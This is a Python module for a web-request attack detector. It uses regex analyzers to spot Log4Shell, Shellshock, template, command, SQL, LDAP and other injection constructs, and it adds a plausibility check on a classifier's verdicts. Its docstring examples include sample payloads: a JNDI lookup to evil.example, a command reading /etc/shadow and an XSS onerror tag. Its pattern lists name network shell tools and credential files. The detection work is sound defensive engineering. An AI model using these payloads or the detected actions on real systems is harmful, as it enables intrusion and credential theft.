"""Structural analyzers: the syntax an attack class cannot do without, found in a decoded value.

The web model is one softmax over the classes it was trained on; it gives one type per part, has
never seen Log4Shell, template injection or Shellshock, and on text unlike its training data it
can name a class whose syntax is not there at all ("price < 100 and rating > 4" -> xss). These
analyzers read the canonical text of each part (decoded, NFKC, lower-case) and report, with the
span that shows it, every attack class whose *defining construct* is present:

=================  ==============================================================================
log4shell          a JNDI lookup ``${jndi:ldap://...`` (after resolving ``${lower:j}``, ``${::-j}``,
                   ``${env:X:-j}`` obfuscation)
shellshock         a bash function definition followed by a command ``() { :; };``
ssti               a template expression ``{{7*7}}``, ``{% ... %}``, ``${7*7}``, ``<%= %>``,
                   ``#{...}``, ``*{T(...)}`` with operators, calls or dunder attributes inside
cmdi               a shell separator or substitution (``;`` ``|`` ``||`` ``&&`` ``&`` newline,
                   ``$(...)``, backticks, ``${IFS}``) directly followed by a shell command with an
                   argument of command shape (an option, a path, an address, a number, nothing)
path-traversal     ``../`` climbing (two or more), or an operating-system file CRS lists as sensitive
                   (``/etc/shadow``, ``c:\\windows\\win.ini``, ``/proc/self/environ``...)
rfi                a URL or stream wrapper (``php://``, ``data:``, ``expect://``...) in a value whose
                   parameter is include-like (``page``, ``file``, ``include``...) or which ends in
                   ``?`` or names an IP address host (the signals of CRS 931100-931120)
open-redirect      an absolute or scheme-relative URL to another host in a redirect-like parameter
                   (``url``, ``next``, ``redirect_uri``, ``return``...)
ldap-injection     a filter closed and reopened ``*)(uid=*``, ``)(|(``
xpath-injection    XPath functions or axes on the document ``count(/``, ``name()``, ``child::``
crlf-injection     a CR/LF followed by a header line ``\\r\\nSet-Cookie:``
ssi                a server-side include directive ``<!--#exec``
xxe                an XML entity declaration with an external identifier ``<!ENTITY x SYSTEM``
sqli               only unmistakable SQL: a stacked statement ``; drop table``, ``union select``,
                   a quote closed into a tautology or comment ``' or 1=1``, ``'--``, time functions
=================  ==============================================================================

The rules are deliberately narrow (each needs its full construct, not a keyword), so they rarely
fire on ordinary text; the false-alarm figures on ordinary data are in ``docs/open-world.md``.

They also give each model class its *plausibility check* (:func:`plausible`): the minimal syntax
without which the class cannot be meant — XSS needs markup or script (a tag, an event handler, a
``javascript:`` URL...), command injection a separator or substitution, SQL injection some SQL
syntax. A model verdict whose class fails it is not reported as that class.

    >>> [f.type for f in analyze("127.0.0.1; cat /etc/shadow")]
    ['cmdi', 'path-traversal']
    >>> [f.type for f in analyze("${${lower:j}ndi:ldap://evil.example/a}")]
    ['log4shell']
    >>> analyze("please select a size from the list")
    []
    >>> plausible("xss", "price < 100 and rating > 4"), plausible("xss", "<img src=x onerror=alert(1)>")
    (False, True)
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

CRS_DATA = Path("/usr/share/modsecurity-crs/rules")


@dataclass(frozen=True)
class Finding:
    """One construct found: the attack class, the rule, and its span in the analysed text."""

    type: str
    rule: str
    start: int
    end: int


# --------------------------------------------------------------------------------------------
# Log4Shell: resolve the lookups Log4j itself resolves inside ${...}, then look for jndi:
# --------------------------------------------------------------------------------------------
_LOOKUP = re.compile(r"\$\{(?:lower:|upper:|::-|env:[^:{}]*:-|sys:[^:{}]*:-|date:|main:[^:{}]*:-|"
                     r"[a-z]*:[^:{}]*:-)([^{}$]*)\}")
_JNDI = re.compile(r"\$\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:")


def _log4shell(t: str) -> list[Finding]:
    if "${" not in t:
        return []
    s = t
    for _ in range(8):                          # nested obfuscation resolves inside out
        s2 = _LOOKUP.sub(lambda m: m.group(1).strip("'"), s)
        if s2 == s:
            break
        s = s2
    m = _JNDI.search(s)
    if not m:
        return []
    a = t.find("${")
    return [Finding("log4shell", "jndi-lookup", a, len(t) if s != t else a + (m.end() - m.start()))]


# --------------------------------------------------------------------------------------------
# Shellshock (CVE-2014-6271): a function definition that bash imports from the environment
# --------------------------------------------------------------------------------------------
_SHELLSHOCK = re.compile(r"\(\s*\)\s*\{[^}]*;\s*\}\s*;")


def _shellshock(t: str) -> list[Finding]:
    m = _SHELLSHOCK.search(t)
    return [Finding("shellshock", "bash-function-import", m.start(), m.end())] if m else []


# --------------------------------------------------------------------------------------------
# Server-side template injection: template delimiters around an expression (not a bare name)
# --------------------------------------------------------------------------------------------
_EXPR = r"(?:[^{}]*?(?:\d\s*[*+/-]\s*\d|__\w+__|\(\s*\)|\w\s*\(|\.\s*\w+\s*\(|\|\s*\w+|\[\s*['\"\d]|" \
        r"\b(?:config|self|request|lipsum|cycler|joiner|namespace|range|class|mro|subclasses|globals|" \
        r"builtins|import|popen|system|exec|eval|runtime|getclass|forname|processbuilder)\b)[^{}]*?)"
_SSTI = re.compile(r"\{\{" + _EXPR + r"\}\}|\{%[^%]*?%\}|\$\{" + _EXPR + r"\}|<%=?[^%]*?%>|#\{" + _EXPR + r"\}"
                   r"|\*\{\s*t\s*\(|\$\{\s*t\s*\(")


def _ssti(t: str) -> list[Finding]:
    if not any(c in t for c in "{%"):
        return []
    out = []
    for m in _SSTI.finditer(t):
        if m.group(0).startswith("${") and _JNDI.search(m.group(0)):
            continue
        out.append(Finding("ssti", "template-expression", m.start(), m.end()))
    return out[:3]


# --------------------------------------------------------------------------------------------
# Command injection: a separator or substitution, then a command with an argument of command shape
# --------------------------------------------------------------------------------------------
_UNIX_COMMANDS = (
    "cat tac ls dir id whoami uname hostname ifconfig ip netstat ss ps kill pkill env printenv set "
    "echo printf wget curl fetch lwp-download nc ncat netcat socat telnet ssh scp ftp tftp rsync "
    "bash sh zsh ksh csh tcsh dash busybox python python2 python3 perl ruby php node lua "
    "ping ping6 nslookup dig host traceroute sleep timeout rm rmdir mv cp chmod chown chgrp touch mkdir "
    "ln find grep egrep fgrep awk gawk sed head tail more less base64 xxd od hexdump strings "
    "tee xargs sudo su crontab at nohup mkfifo uptime w who last groups passwd useradd "
    "systemctl service shutdown reboot halt mount umount dd tar zip unzip gzip gunzip "
    "nmap whoami.exe cmd cmd.exe powershell powershell.exe pwsh net net1 type ver systeminfo tasklist "
    "taskkill certutil bitsadmin reg regsvr32 rundll32 wmic mshta cscript wscript schtasks sc "
    "ipconfig arp route nbtstat query copy del erase start call"
).split()
_SEP = r"(?:;|\|\|?|&&?|\n|\r|\$\(|\$\{ifs\}|%0a)"
_ARG = r"(?:$|[;|&)`'\"<>\n]|\s+(?:-|/|\\|\.|\$|~|[a-z]:\\|\d|[\w.-]+\.[a-z]{2,}|[\w.-]*/|[;|&`'\"<>]|>|<|\w+\s*$))"
_CMDI = re.compile(_SEP + r"\s*(?:(?:/usr)?/s?bin/)?(" + "|".join(re.escape(c) for c in
                                                                       sorted(_UNIX_COMMANDS, key=len, reverse=True))
                   + r")(?=" + _ARG + r")")
_IFS = re.compile(r"\$\{ifs\}|\$ifs\b")
# backticks count where a shell would see them (value start, after = ; | & ( or a quote), not
# as the code quotes of prose ("use `cmd` to execute")
_SUBST = re.compile(r"\$\(\s*[a-z/][^)]*\)|(?:^|(?<=[=;|&('\"]))\s*`\s*[a-z/][^`]*`")


def _cmdi(t: str) -> list[Finding]:
    if not any(c in t for c in ";|&\n\r$`%"):
        return []
    out = []
    for m in _CMDI.finditer(t):
        sep = t[m.start()]
        if m.group(1) in _AMBIGUOUS and sep in ";&" and not t[m.start():m.start() + 2] == "&&":
            rest = t[m.end():]
            if not re.match(r"\s*$|\s+[-/\\~$]", rest):
                continue
        out.append(Finding("cmdi", "separator+command", m.start(), m.end()))
        break
    if out:
        return out
    if _IFS.search(t):
        m = _IFS.search(t)
        return [Finding("cmdi", "ifs", m.start(), m.end())]
    for m in _SUBST.finditer(t):
        word = re.match(r"[$`(\s]*(?:(?:/usr)?/s?bin/)?([\w.]+)", m.group(0))
        if word and word.group(1) in _UNIX_COMMAND_SET:
            return [Finding("cmdi", "substitution", m.start(), m.end())]
    return []


_UNIX_COMMAND_SET = frozenset(_UNIX_COMMANDS)
# commands that are also ordinary words or codes (``id`` is a language code in User-Agents, ``at``
# and ``set`` are English): after ``;`` or ``&`` they count only at the end or before an option/path
_AMBIGUOUS = frozenset("id w at ip ss sh su ps cp mv ln rm dd set type start call query copy host env more less "
                       "find head tail kill touch date time who last groups route arp service mount net sc".split())


# --------------------------------------------------------------------------------------------
# Path traversal / local file inclusion: climbing, or a sensitive OS file (CRS lfi-os-files.data)
# --------------------------------------------------------------------------------------------
_CLIMB = re.compile(r"(?:\.\.[/\\]+){2,}|(?:^|[/\\=])\.\.[/\\]+(?=[\w.-]*[/\\]|[\w-]+\.\w+|etc|windows|boot|proc)")
_BUILTIN_FILES = ("etc/passwd", "etc/shadow", "etc/group", "etc/hosts", "etc/issue", "etc/sudoers",
                  "etc/master.passwd", "proc/self/environ", "proc/self/cmdline", "proc/version",
                  "windows/win.ini", "windows/system.ini", "boot.ini", "winnt/win.ini",
                  "windows/system32/drivers/etc/hosts", "var/log/apache2/access.log", ".ssh/id_rsa",
                  ".ssh/authorized_keys", ".bash_history", "web-inf/web.xml", "wp-config.php")


@lru_cache(maxsize=1)
def _sensitive_files() -> frozenset[str]:
    """CRS's list of OS files whose access is an attack (only entries with a directory, so that a
    bare ``.htaccess`` does not fire), plus a built-in core when CRS is absent; ``/``-separated,
    lower-case, no leading slash."""
    names = set(_BUILTIN_FILES)
    f = CRS_DATA / "lfi-os-files.data"
    if f.is_file():
        for ln in f.read_text(encoding="utf-8", errors="replace").splitlines():
            ln = ln.strip().lower().replace("\\", "/")
            if ln and not ln.startswith("#") and "/" in ln.strip("/") and len(ln) >= 8 and " " not in ln:
                names.add(ln.strip("/"))
    return frozenset(names)


_TOKEN = re.compile(r"[^\s'\"<>|;&=?()*,]+")
# where a file path is the value itself, not a mention inside prose: at the start (after a quote,
# a scheme or a null byte), after '=', '<', '@' or a climb
_PATH_CONTEXT = re.compile(r"(?:^|[=<@]|\.\.|file:/*|\x00|%00|^[\s'\"]+)[/\\]*$")


def _sensitive_file(t: str, anywhere: bool = False) -> Finding | None:
    """The first path-like token of ``t`` that ends in a sensitive OS file, where a path is the
    value (or, with ``anywhere``, wherever it is: the argument of an injected command)."""
    names = _sensitive_files()
    for m in _TOKEN.finditer(t):
        if "/" not in m.group(0) and "\\" not in m.group(0):
            continue
        tok = re.sub(r"[/\\]+", "/", m.group(0)).strip("/")
        parts = tok.split("/")
        for i in range(len(parts)):
            cand = "/".join(parts[i:])
            if cand in names or cand.rstrip("~") in names:
                if anywhere or _PATH_CONTEXT.search(t[:m.start()]):
                    return Finding("path-traversal", "sensitive-file", m.start(), m.end())
                break
    return None


def _traversal(t: str, after_command: bool = False) -> list[Finding]:
    if "/" not in t and "\\" not in t:
        return []
    out = []
    m = _CLIMB.search(t)
    if m:
        out.append(Finding("path-traversal", "climb", m.start(), m.end()))
    f = _sensitive_file(t, anywhere=after_command)
    if f is not None and not (out and out[0].end >= f.start):
        out.append(f)
    return out


# --------------------------------------------------------------------------------------------
# Remote file inclusion and open redirect: URLs in values, read with the parameter's name
# --------------------------------------------------------------------------------------------
_WRAPPER = re.compile(r"^\s*(?:php|expect|zip|phar|data|glob|file|compress\.zlib|ogg|ssh2|rar)://|^\s*data:[^,]*;base64,")
_URL = re.compile(r"^\s*(?:(?:https?|ftps?)\s*:\s*[/\\]{2}|[/\\]{2}(?=[a-z0-9.-]+\.[a-z]{2,}|\d+\.\d+))([^/\\?#\s]*)")
_IP_HOST = re.compile(r"^(?:[^@]*@)?\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?$")
# parameters that name a file to include in the known RFI vulnerabilities (CRS 931110's list, plus the
# common generic names); a URL elsewhere is an ordinary value (a website field, a referrer)
_INCLUDE_PARAMS = frozenset(
    "page file include inc path template tpl doc document folder dir conf config filename basedir base_dir "
    "root_dir rootdir document_root docroot appserv_root mosconfig_absolute_path gallery_basedir "
    "path_prefix includedir include_path lib libdir".split())
# parameters that are a redirect target by name; the generic ones (url, u, to, link...) count only on a
# path that redirects (/redirect, /out, /go...): ``/badge?url=https://...`` is a URL value, not a redirect
_REDIRECT_PARAMS = frozenset(
    "redirect redirect_uri redirect_url redirecturl redir redir_url return return_to returnto returnurl "
    "return_url next nexturl next_url dest destination goto continue forward forward_url success_url "
    "failure_url checkout_url login_redirect back backurl back_url".split())
_GENERIC_URL_PARAMS = frozenset("url uri u r to link out target ref q_url href jump".split())
_REDIRECT_PATH = re.compile(r"(?:^|/)(?:redirect\w*|redir\w*|out|go|goto|link|click|jump|away|exit|leave|external|"
                            r"bounce|forward|r|l|url)(?:\.\w+)?(?:/|$)")


def _param_name(part: str) -> str:
    """``query:page`` -> ``page``; ``body:a.b[0]`` -> ``b``."""
    name = part.split(":", 1)[1] if ":" in part else part
    return re.split(r"[.\[\]]", name.lower().strip("[]"))[-1] or name.lower()


# a whole URL (a request target, a link) that is itself an inclusion probe: a PHP stream wrapper or a
# script data: URL, or a remote file whose appended suffix is cut off by a bare trailing ``?``
_URL_WRAPPER = re.compile(r"^\s*(?:php|expect|phar|zip|glob|compress\.zlib|ssh2|rar|ogg)://|"
                          r"^\s*data:(?://)?(?:text/(?:plain|html|x-php)|application/x-httpd-php)?(?:;charset=[\w-]+)?;base64,")
_URL_TRUNCATED = re.compile(r"^\s*(?:https?|ftps?)://[^/?#\s]+/\S*\.(?:txt|php\d?|inc|gif|jpe?g|png|dat|log)\?$")


def _url_values(t: str, part: str, host: str | None, path: str | None = None) -> list[Finding]:
    if part in ("url", "target", "path"):
        for rule, rx in (("stream-wrapper", _URL_WRAPPER), ("truncated-include", _URL_TRUNCATED)):
            m = rx.search(t)
            if m:
                return [Finding("rfi", rule, m.start(), len(t))]
        return []
    if part.startswith("header:"):
        return []
    out = []
    name = _param_name(part)
    m = _WRAPPER.search(t)
    if m:
        return [Finding("rfi", "stream-wrapper", m.start(), len(t))]
    m = _URL.search(t)
    if not m:
        return []
    url_host = m.group(1).split("@")[-1].split(":")[0].strip(".")
    if name in _INCLUDE_PARAMS or t.rstrip().endswith("?") or _IP_HOST.match(m.group(1) or ""):
        out.append(Finding("rfi", "url-in-include", m.start(), len(t)))
    elif url_host and (host is None or url_host != host.split(":")[0].lower()) and (
            name in _REDIRECT_PARAMS or (name in _GENERIC_URL_PARAMS and path is not None
                                         and _REDIRECT_PATH.search(path.lower()))):
        out.append(Finding("open-redirect", "external-url", m.start(), len(t)))
    return out


# --------------------------------------------------------------------------------------------
# SQL injection: only the unmistakable constructs (the model judges the rest)
# --------------------------------------------------------------------------------------------
_SQLI = [re.compile(p) for p in (
    r";\s*(?:drop|delete|insert|update|create|alter|truncate|exec(?:ute)?|shutdown|declare|grant|revoke)\b\s+\w",
    r"\bunion\b(?:\s+all|\s+distinct)?\s*(?:\(\s*)?select\b",
    r"['\"`]\s*\)*\s*(?:or|and|\|\||&&|xor)\s+(?:['\"]?[\w.]*['\"]?\s*(?:=|<>|!=|like\b|<|>)|"
    r"\d+\s*(?:[=<>]|--|#|/\*|$)|\(\s*['\"\w.]+\s*[=<>]|true\b|not\b)",
    r"['\"`]\s*\)*\s*(?:--|#|/\*|;\s*--)",
    r"\b(?:sleep|pg_sleep|benchmark|receive_message)\s*\(\s*\d",
    r"\bwaitfor\s+delay\s+'",
    r"\b(?:extractvalue|updatexml|load_file|xp_cmdshell)\s*\(|\binformation_schema\.\w+",
)]
_SQLI_START = re.compile(r"\s*-?\d+\s*\)?\s+(?:or|and)\s+\d+\s*=\s*\d+")


def _sqli(t: str) -> list[Finding]:
    for rx in _SQLI:
        m = rx.search(t)
        if m:
            return [Finding("sqli", "sql-construct", m.start(), m.end())]
    m = _SQLI_START.match(t)
    return [Finding("sqli", "sql-construct", m.start(), m.end())] if m else []


# --------------------------------------------------------------------------------------------
# LDAP, XPath, CRLF, SSI, XXE
# --------------------------------------------------------------------------------------------
_LDAP = re.compile(r"\*\s*\)\s*\(|\)\s*\(\s*[|&!]\s*\(|\(\s*[|&]\s*\(\s*[\w-]+\s*[=~<>]|\)\s*\(\s*[\w-]+\s*=\s*\*")
_XPATH = re.compile(r"\b(?:count|name|local-name|string-length|substring|starts-with|normalize-space)\s*\(\s*"
                    r"(?:/|\.|@|\)|name\s*\(|child|node)|(?:child|descendant|ancestor|parent|following-sibling|"
                    r"preceding-sibling|self|attribute)::|/child::node\(\)|\bor\s+count\s*\(")
_CRLF = re.compile(r"[\r\n]+\s*(?:set-cookie|location|content-type|content-length|x-[\w-]+|"
                   r"refresh|access-control-[\w-]+|http/\d)\s*:", )
_SSI = re.compile(r"<!--\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv|set|if)\b")
_XXE = re.compile(r"<!entity\s+%?\s*[\w.-]+\s+(?:system|public)\b|<!doctype[^>]*\[\s*<!entity")


def _simple(t: str) -> list[Finding]:
    out = []
    if "(" in t or ")" in t:
        m = _LDAP.search(t)
        if m:
            out.append(Finding("ldap-injection", "filter-break", m.start(), m.end()))
        m = _XPATH.search(t)
        if m:
            out.append(Finding("xpath-injection", "xpath-function", m.start(), m.end()))
    if "\n" in t or "\r" in t:
        m = _CRLF.search(t)
        if m:
            out.append(Finding("crlf-injection", "header-line", m.start(), m.end()))
    if "<!" in t:
        for typ, rx in (("ssi", _SSI), ("xxe", _XXE)):
            m = rx.search(t)
            if m:
                out.append(Finding(typ, typ, m.start(), m.end()))
    return out


# constructs more specific than any model class that shares their syntax: they name the attack even
# when the model also flags the value (``*)(uid=*`` is LDAP, not the SQL injection the model says)
STRONG = frozenset({"log4shell", "shellshock", "ssti", "cmdi", "xxe", "ssi", "crlf-injection", "ldap-injection",
                    "xpath-injection"})

# priority when one value carries several: the outermost attack first (the command that reads a file)
PRIORITY = ("log4shell", "shellshock", "ssti", "xxe", "ssi", "cmdi", "sqli", "crlf-injection", "rfi",
            "ldap-injection", "xpath-injection", "open-redirect", "path-traversal")


def analyze(text: str, part: str = "value", host: str | None = None, path: str | None = None) -> list[Finding]:
    """Every construct found in ``text`` (canonical: decoded and lower-cased), ordered by
    :data:`PRIORITY`. ``part`` is the part's name (``query:page``, ``header:user-agent``), ``host``
    the request's Host and ``path`` its path, which the URL rules read."""
    t = text
    found: list[Finding] = []
    found += _log4shell(t)
    if "(" in t:
        found += _shellshock(t)
    found += _ssti(t)
    cmd = _cmdi(t)
    found += cmd
    found += _traversal(t, after_command=bool(cmd))
    found += _url_values(t, part, host, path)
    found += _sqli(t)
    found += _simple(t)
    order = {typ: i for i, typ in enumerate(PRIORITY)}
    found.sort(key=lambda f: (order.get(f.type, 99), f.start))
    return found


# --------------------------------------------------------------------------------------------
# Plausibility of a model class: the minimal syntax the class needs
# --------------------------------------------------------------------------------------------
# XSS needs markup or script that a browser would run, not any ``<word>`` (documentation writes
# ``<list>``, ``<https://...>``): an active or structural tag, an event handler inside a tag, a
# quote breaking out of an attribute or a script string, a script URL or a script API call
_XSS_SYNTAX = re.compile(
    r"<\s*/?\s*(?:script|iframe|frame|frameset|svg|img|image|object|embed|applet|meta|link|style|base|form|input|"
    r"button|body|html|head|title|video|audio|source|track|math|details|marquee|isindex|textarea|select|keygen|xss|"
    r"animate|set|table|td|div|span|a|b|i|u|p|br|bgsound|layer|ilayer|xml|x|plaintext|xmp|noscript|template|"
    r"dialog|portal|object|param|option|label|fieldset|legend|h[1-6])(?=[\s/>=\x00\\]|$)|"
    r"<\s*[a-z][\w:-]*[^<>]*?[\s/\\\x00\"'`]on[a-z]{3,}\s*=|\bon[a-z]{3,}\s*=\s*['\"`]?\s*[a-z_$][\w$.]*\s*[(=`]|"
    r"['\"`]\s*>|<!--|-->|\]\]>|<!\[cdata|"
    r"['\"`]\s*[;+|&)]+\s*(?:[a-z_$][\w$.]*\s*\(|var\b|let\b|return\b)|"
    r"\.constructor\b|constructor\s*\.\s*constructor|\[\s*['\"`]constructor|(?:java|vb|live)script\s*:|"
    r"data\s*:\s*text/html|:\s*expression\s*\(|"
    r"(?:alert|prompt|confirm|eval|settimeout|setinterval|fromcharcode|atob|import|fetch)\s*[(`]|"
    r"document\s*\.\s*(?:cookie|write|location|domain|body|createelement|getelementby\w+|forms|url)|"
    r"window\s*\.\s*(?:location|open|name|eval|onerror|alert|top|parent)|\bsrc\s*=|\bhref\s*=|-moz-binding|"
    r"\bstyle\s*=|\bsrcdoc\s*=|\bformaction\s*=|\bxlink:href|&#x?[0-9a-f]+;?\s*[a-z(]|\\u00[0-9a-f]{2}|\\x[0-9a-f]{2}")
# SQL needs more than a quote or a semicolon (prose has both): a quote or number closed into an
# operator or keyword, a SQL statement shape, a SQL function, a comment tail or a stacked query
_SQL_SYNTAX = re.compile(
    r"['\"]\s*\)*\s*(?:;|--|#|/\*|\|\||&&|=|<|>|\+|\b(?:union|order\s+by|group\s+by|having|rlike|regexp|into|waitfor|"
    r"sleep|benchmark|exec|procedure|limit\s+\d|div|collate|where)\b)|"
    r"['\"]\s*\)*\s*\b(?:or|and|xor|like|is|in|not|between)\b\s+[^\s]{0,30}?(?:=|<|>|\blike\b|\d|\btrue\b|\bfalse\b|\bnull\b|\(|['\"]\s*$)|"
    r"\b(?:or|and|xor|having|where|when|not)\b\s*\(*\s*['\"`]?[\w@.$-]*['\"`]?\s*(?:=|<|>|!=|<>|\blike\b|\bis\b|\bin\b\s*\()|"
    r"\b(?:or|and|xor)\b\s+\(*\s*(?:\d|true\b|false\b|null\b|not\b|exists\b|sleep\b|\(\s*select)|"
    r"\bunion\b[\s\S]{0,40}\bselect\b|\bselect\b[\s\S]{1,200}\bfrom\b|\binsert\s+into\b|\bupdate\b[\s\S]{1,80}\bset\b|"
    r"\bdelete\s+from\b|\b(?:drop|create|alter|truncate)\s+(?:table|database|schema|user|view|procedure)\b|"
    r"\b(?:sleep|benchmark|pg_sleep|waitfor|load_file|extractvalue|updatexml|group_concat|concat(?:_ws)?|char|chr|"
    r"substring|substr|mid|ascii|ord|cast|convert|count|version|database|user|hex|unhex|if|ifnull|iif|md5|"
    r"randomblob|dbms_\w+|utl_\w+|make_set|elt|field|find_in_set|instr|locate|rand|floor|exp|"
    r"json_\w+|gtid_subset|name_const|row|st_\w+|case|coalesce|nullif|greatest|least|rlike|regexp_\w+)\s*\(|"
    r"\(\s*-?\d+\s*(?:=|<>|!=|<|>)\s*-?\d+\s*\)|\b(?:or|and|xor)\s+[a-z_]+\s*\(\s*(?:\d|select\b|['\"@(])|"
    r"\bwaitfor\s+delay\b|\bxp_\w+|\bsp_\w+|@@\w+|\binformation_schema\b|\binto\s+(?:out|dump)file\b|"
    r"\b(?:order|group)\s+by\s+\d|\bhaving\s+\d|\blimit\s+\d+\s*,|/\*[\s\S]*?\*/|/\*!|--[\s+-]*$|#\s*$|\d\s*(?:--|#)|"
    r";\s*(?:drop|select|insert|update|delete|shutdown|declare|exec|execute|create|alter|truncate|grant|set)\b|"
    r"\)\s*(?:union|;|--|#)|\)\s*(?:or|and)\s+[^\s]{0,20}?(?:=|<|>|\d|\(|['\"])|\$(?:ne|gt|lt|where|regex|or|and)\b|^\s*-?\d+\s*\)|"
    r"^\s*['\"`]|['\"`]\s*$|\b0x[0-9a-f]{4,}")
_NEEDS = {
    "xss": _XSS_SYNTAX,
    "sqli": _SQL_SYNTAX,
    "cmdi": re.compile(r"[;|&`$\n\r<>]|%0a|\bcmd\b|/bin/|\\n|^\s*['\"]?\s*(?:" + "|".join(re.escape(c) for c in _UNIX_COMMANDS)
                       + r")(?:\.exe)?(?:\s+[-/\\~$.\w]|\s*$)"),
    "xxe": re.compile(r"<!|<\?xml|system\s*[\"']"),
    "open-redirect": re.compile(r"//|\\\\|https?|www\.|\{target\}|@|\.[a-z]{2,}(?:/|$)"),
    "ssi": re.compile(r"<!--\s*#"),
    "nosqli": re.compile(r"\$(?:ne|gt|lt|gte|lte|eq|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|type|"
                         r"size|all|mod|text|function|accumulator)\b|\[\s*\$|\{\s*['\"]?\$|\bthis\.\w+|\bdb\.\w+|"
                         r"\|\||&&|==|\bsleep\s*\(|;\s*return\b|\btrue\s*,|\bfunction\s*\(|\[\w*\]\s*="),
    "rfi": re.compile(r":/|//|\\\\|data:|xx\w+xx|\?\s*$|%00|\x00|\binclude\b|\bshell\b|\.txt\b|\.php\b|=\s*$"),
    "path-traversal": re.compile(
        r"\.\.|%2e|%c0|%c1|%u002e|%uff0e|\u2025|li4[uv]|\x00|%00|file:|/etc/|/proc/|/var/|/usr/|/bin/|/root|"
        r"/home/[^/]+/\.|~/|\.ssh|\.bash|\.htaccess|\.htpasswd|\.env\b|\.git/|web\.config|wp-config|"
        r"(?:win|boot|system|php)\.ini|system32|[a-z]:[\\/]+(?:windows|winnt|boot|inetpub|program|xampp|wamp|"
        r"system|users\\[^\\]+\\(?:ntuser|appdata))|\\\\[\w.]+\\|passwd|shadow|\{file\}|\{path\}|"
        r"\.ini\b|global\.asax?|inetpub|wwwroot|\.mdb\b|\.bak\b|\.asp\b|\.jsp\b|/dev/"),
}
# rfi, open-redirect, path-traversal, nosqli and format-string have no stated minimum: their
# training rows include scanner targets and encoded forms (``...php?path_prefix=XXpathXX``,
# base64 of ``../``) whose syntax is the request itself


_QUERY_STRUCTURE = re.compile(r"(?:^|[?&;])[^=&?#;/]*=")


def plausible(attack_type: str, text: str, url: bool = False) -> bool:
    """Whether ``text`` (canonical) carries the minimal syntax of ``attack_type``; types without a
    stated minimum are always plausible. ``url``: ``text`` is a whole URL, whose own ``?``, ``&`` and
    ``name=`` are structure, not the attack's syntax (only its path and values are read)."""
    rx = _NEEDS.get(attack_type)
    if rx is None:
        return True
    return rx.search(_QUERY_STRUCTURE.sub(" ", text) if url else text) is not None
